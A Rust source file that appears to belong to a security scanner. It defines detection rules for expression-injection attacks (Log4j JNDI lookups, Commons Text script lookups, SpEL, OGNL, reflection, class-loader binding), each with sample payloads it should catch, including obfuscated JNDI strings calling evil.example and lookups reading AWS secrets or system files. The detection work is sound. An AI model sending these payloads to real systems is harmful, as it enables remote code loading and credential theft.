//! The rules about expressions.

use super::{class_name, java, lookup};
use crate::finding::{Class, Paranoia, Rule, Severity};
use crate::rules::hits::Hits;
use crate::rules::registry::Detector;
use crate::rules::scan::Bytes;
use crate::rules::subject::Subject;

pub(in crate::rules) static DETECTOR: Detector = Detector {
    class: Class::Expression,
    wants: Bytes::DOLLAR
        .with(Bytes::PAREN)
        .with(Bytes::HASH)
        .with(Bytes::DOT)
        .with(Bytes::BRACKET)
        .with(Bytes::COLON)
        .with(Bytes::OTHER),
    wants_suspicious: Bytes::NOTHING,
    detect,
    rules: &[
        &JNDI_LOOKUP,
        &NESTED_LOOKUP,
        &SCRIPT_LOOKUP,
        &SECRET_LOOKUP,
        &TYPE_REFERENCE,
        &STATIC_REFERENCE,
        &OGNL_CONTEXT,
        &REFLECTION,
        &PROCESS_START,
        &CLASS_LOADER,
        &CLASS_NAME,
        &LOOKUP,
        &JAVA_CODE,
    ],
};

fn detect(subject: &Subject<'_>, hits: &mut Hits) {
    let text = subject.text;
    if subject.bytes.any(Bytes::DOLLAR) {
        lookup::detect(text, subject.context.is_one_value(), hits);
    }
    if subject.bytes.any(Bytes::DOT) {
        class_name::detect(text, subject.context.is_code(), hits);
    }
    let quoted = subject.quotes_code();
    java::detect(text, subject.bytes, quoted, hits);
}

// Level 1: no honest text looks anything up by JNDI.
pub(super) static JNDI_LOOKUP: Rule = Rule {
    id: "expression.jndi-lookup",
    class: Class::Expression,
    severity: Severity::Critical,
    cwe: 917,
    paranoia: Paranoia::One,
    summary: "a JNDI lookup, plain or spelled with other lookups",
    details: "Log4j 2 before 2.17 resolves `${jndi:ldap://…}` in what it logs and loads code from that address \
              (CVE-2021-44228). The name can be spelled with lookups of its own: `${${lower:j}ndi:…}`. Update Log4j.",
    matches: &[
        "${jndi:rmi://evil.example/a}",
        "${JnDi:dns://x}",
        "${${lower:J}${upper:n}d${::-i}:ldap://x/a}",
        "${j${env:NOPE:-n}di${sys:nope:-:}ldap://x}",
        "$${env:A:-${env:A:-$}{jndi:ldap://x/}}",
        "${jnd${upper:\u{131}}:ldap://x/}",
        "${${date:'j'}ndi:ldap://x/}",
        "$&lcub;jndi:ldap://x/}",
    ],
    passes: &["${jndi}", "jndi: what is it?", "${name}jndi:x", "$jndi:{}", "${j}{ndi:x}"],
};

// Level 1: spelling a letter with a lookup has no use but to hide it.
pub(super) static NESTED_LOOKUP: Rule = Rule {
    id: "expression.hidden-letter",
    class: Class::Expression,
    severity: Severity::High,
    cwe: 917,
    paranoia: Paranoia::One,
    summary: "a lookup that only spells a letter",
    details: "`${lower:x}` and `${::-x}` say nothing but `x`: they hide the name of another lookup from filters.",
    matches: &["${lower:l}dap", "${upper:a}", "${::-j}", "${:-n}"],
    passes: &["${lower:0:3}", "${lower}", "${PORT:-8}", "${upper:-A}", "${name::-1}"],
};

// Level 1: these lookups run code or fetch an address; no configuration in an event uses them.
pub(super) static SCRIPT_LOOKUP: Rule = Rule {
    id: "expression.script-lookup",
    class: Class::Expression,
    severity: Severity::Critical,
    cwe: 94,
    paranoia: Paranoia::One,
    summary: "a lookup that runs a script or fetches an address",
    details: "Apache Commons Text before 1.10 resolves `${script:…}`, `${dns:…}` and `${url:…}` (CVE-2022-42889). Update it, \
              and do not interpolate text from events.",
    matches: &["${script:javascript:1+1}", "${dns:address|evil.example}", "${url:UTF-8:http://evil.example}"],
    passes: &["${script:-run}", "${url:0:8}", "${dns}", "${script}"],
};

// Level 1: the credentials of the machine, or a file: configuration names neither so.
pub(super) static SECRET_LOOKUP: Rule = Rule {
    id: "expression.secret-lookup",
    class: Class::Expression,
    severity: Severity::High,
    cwe: 200,
    paranoia: Paranoia::One,
    summary: "a lookup that reads a file, a constant of Java or the credentials of the function",
    details: "Where text is interpolated (Log4j, Commons Text, Commons Configuration), `${env:AWS_SECRET_ACCESS_KEY}` is replaced by the \
              key, `${file:UTF-8:/etc/passwd}` by the file. Do not interpolate text from events.",
    matches: &[
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${env:aws_session_token:-x}",
        "${file:UTF-8:/etc/hosts}",
        "${xpath:/etc/hosts:/}",
        "${const:java.lang.Integer.MAX_VALUE}",
    ],
    passes: &["${env:HOME}", "${env:AWS_REGION}", "${file:./a.yml}", "${file(./a.yml):b}", "${const:x}", "${xpath:a}"],
};

// Level 1: the syntax belongs to SpEL alone.
pub(super) static TYPE_REFERENCE: Rule = Rule {
    id: "expression.type-reference",
    class: Class::Expression,
    severity: Severity::Critical,
    cwe: 917,
    paranoia: Paranoia::One,
    summary: "a Java class named as in the Spring Expression Language",
    details: "`T(java.lang.Runtime)` gives an expression every static method of the class. Never evaluate text from an event. \
              Source code and Markdown that quotes code are suspected only.",
    matches: &["T(java.lang.System).exit(1)", "#{T (org.example.tools.Shell).run()}"],
    passes: &["T(n) = T(n/2) + 1", "T(a.b)", "Type(java.lang.String)", "T('menu.file.Open')"],
};

// Level 1: the syntax belongs to OGNL alone.
pub(super) static STATIC_REFERENCE: Rule = Rule {
    id: "expression.static-reference",
    class: Class::Expression,
    severity: Severity::Critical,
    cwe: 917,
    paranoia: Paranoia::One,
    summary: "a static member named as in OGNL",
    details: "`@java.lang.Runtime@getRuntime()` gives an expression every static method of the class, as in the attacks on \
              Struts. Never evaluate text from an event. Source code and Markdown \
              that quotes code are suspected only.",
    matches: &["@java.lang.System@getenv()", "(@org.example.Tools@RUN)"],
    passes: &["a@b.example@c", "@java.lang.Override", "mail @x.y.z or @me", "user@host.example@proxy.example"],
};

// Level 1: only attacks reach for the context of OGNL.
pub(super) static OGNL_CONTEXT: Rule = Rule {
    id: "expression.ognl-context",
    class: Class::Expression,
    severity: Severity::Critical,
    cwe: 917,
    paranoia: Paranoia::One,
    summary: "a variable set, or the context reached, as in OGNL",
    details: "`(#a=…)` and `#_memberAccess` switch off what protects Struts from its own expressions. Update Struts.",
    matches: &["%{(#x='sh')}", "#_memberAccess['allowStaticMethodAccess']=true", "(#k=@a.B@c)", "#context['xwork.x']"],
    passes: &["[link](#top)", "see #context", "(#1=first)", "a(#b)"],
};

// Level 1: on one line, from a literal or with a class that runs programs; level 2 where code is what the field holds.
pub(super) static REFLECTION: Rule = Rule {
    id: "expression.reflection",
    class: Class::Expression,
    severity: Severity::Critical,
    cwe: 470,
    paranoia: Paranoia::One,
    summary: "a class got from an object by reflection",
    details: "`''.getClass().forName('java.lang.Runtime')` is how an expression gets from a harmless value to any class. \
              Never evaluate text from an event. \
              Source code and Markdown that quotes code are suspected only.",
    matches: &[
        "''.getClass().forName('x')",
        "a.class.forName('java.lang.Runtime')",
        "x.getMethod(\"getRuntime\")",
        "\"\".class.forName('java.lang.System')",
        "#this.getClass()",
    ],
    passes: &["this.getClass().getName()", "Class.forName(\"org.example.Driver\")", "Foo.class.getResource('a')"],
};

// Level 1: with the command written out; level 2 where code is what the field holds, or with a variable.
pub(super) static PROCESS_START: Rule = Rule {
    id: "expression.process-start",
    class: Class::Expression,
    severity: Severity::Critical,
    cwe: 94,
    paranoia: Paranoia::One,
    summary: "a program started as in Java or Groovy",
    details: "`getRuntime().exec('…')`, `new ProcessBuilder('…')` or `'…'.execute()`. Never evaluate text from an event. \
              Source code and Markdown that quotes code are suspected only.",
    matches: &[
        "Runtime.getRuntime().exec('id')",
        "new java.lang.ProcessBuilder({\"id\"}).start()",
        "\"id\".execute()",
        "['sh','-c','id'].execute()",
        "new GroovyShell().evaluate(\"x\")",
        "@groovy.transform.ASTTest(value={assert 1})",
    ],
    passes: &[
        "Runtime.getRuntime().exec() hangs",
        "new ProcessBuilder(args)",
        "statement.execute()",
        "task.execute('a')",
    ],
};

// Level 1: a parameter of this name only ever reaches for the class loader.
pub(super) static CLASS_LOADER: Rule = Rule {
    id: "expression.class-loader",
    class: Class::Expression,
    severity: Severity::Critical,
    cwe: 915,
    paranoia: Paranoia::One,
    summary: "a property path to the class loader",
    details: "Frameworks that bind parameters to properties follow `class.module.classLoader` to the class loader and the \
              server's settings (CVE-2022-22965). Update the framework, and bind named properties only.",
    matches: &["class.module.classLoader.URLs[0]=a", "class.classLoader", "x=1&class['classLoader']=a"],
    passes: &[
        "Foo.class.getClassLoader()",
        "the class loader",
        "first class. module. classLoader",
        "my.class.classLoader",
    ],
};

// Level 1: as the whole text only, and no exception: that is what error reports name.
pub(super) static CLASS_NAME: Rule = Rule {
    id: "expression.class-name",
    class: Class::Expression,
    severity: Severity::Medium,
    cwe: 470,
    paranoia: Paranoia::One,
    summary: "nothing but the name of a class of Java's platform",
    details: "Programs that make an object of a class by its name, and typed deserializers, are asked for `java.io` and \
              `java.lang` classes by attackers alone. Compare such names with a list. Where the field holds code, it is suspected only.",
    matches: &[
        "java.lang.ProcessImpl",
        "javax.naming.InitialContext",
        "com.sun.rowset.JdbcRowSetImpl",
        "a.b.ProcessBuilder",
    ],
    passes: &[
        "java.lang.IllegalStateException",
        "java.io.tmpdir",
        "import java.io.File;",
        "com.example.Handler",
        "java.lang.String is final",
        "java.util.List",
    ],
};

// Level 2: Serverless, Spring and shells use these words in honest configuration.
pub(super) static LOOKUP: Rule = Rule {
    id: "expression.lookup",
    class: Class::Expression,
    severity: Severity::Medium,
    cwe: 200,
    paranoia: Paranoia::Two,
    summary: "a lookup of the environment or the system",
    details: "`${env:…}`, `${sys:…}` and the like read secrets where text is interpolated. Honest in configuration; URLs, \
              paths, file names and tokens have none at any level.",
    matches: &["${env:HOME}", "${sys:user.dir}", "${java:version}", "jndi:ldap://x/a"],
    passes: &["${env}", "${HOME}", "${env:0:3}", "jndi"],
};

// Level 2: stands in honest source code.
pub(super) static JAVA_CODE: Rule = Rule {
    id: "expression.java-code",
    class: Class::Expression,
    severity: Severity::Medium,
    cwe: 94,
    paranoia: Paranoia::Two,
    summary: "Java code that reaches for a class or a program",
    details: "Calls such as `getRuntime().exec(command)` or `newInstance()`, as honest source code has them too.",
    matches: &["Runtime.getRuntime().exec(command)", "new ProcessBuilder(args)", "Class.forName(name)"],
    passes: &["exec(command)", "the process builder", "forName"],
};
